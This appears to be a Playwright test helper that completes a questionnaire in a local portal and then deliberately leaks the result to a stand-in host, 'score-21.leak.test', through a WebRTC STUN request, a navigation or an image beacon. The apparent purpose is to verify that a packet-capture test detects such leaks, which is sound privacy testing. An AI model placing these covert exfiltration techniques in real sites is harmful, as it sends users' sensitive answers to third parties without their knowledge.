// node journey.ts clean|webrtc|navigation|image FOLDER: one sitting in a real browser, for packets.test.ts.
import type { AddressInfo } from 'node:net';
import { chromium } from '@playwright/test';
import { wholeBrowser } from '../browsers.ts';
import { createPortalServer } from '../../scripts/serve/server.ts';
import { answerAll, start } from '../e2e/take.ts';

const [leak, folder = ''] = process.argv.slice(2);
const server = createPortalServer({ folder, base: '/' });
await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
const { port } = server.address() as AddressInfo;
const browser = await chromium.launch({
  ...wholeBrowser,
  args: [...wholeBrowser.args, '--disable-background-networking', '--disable-component-update'],
});
const page = await browser.newPage();
await page.goto(`http://127.0.0.1:${port}/assessments/lamps-nine/`);
await start(page, '18–59 岁');
await answerAll(page, [3, 2, 1, 0, 3, 2, 1, 0, 3]);
await page.locator('.player-result').waitFor();

if (leak === 'webrtc')
  await page.evaluate(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:score-21.leak.test:3478' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  });
if (leak === 'navigation')
  await page
    .evaluate(() => {
      window.location.href = 'http://score-21.leak.test/';
    })
    .catch(() => undefined);
if (leak === 'image')
  await page.evaluate(() => {
    new Image().src = 'http://score-21.leak.test/';
  });
await page.waitForTimeout(2000);
await browser.close();
server.close();
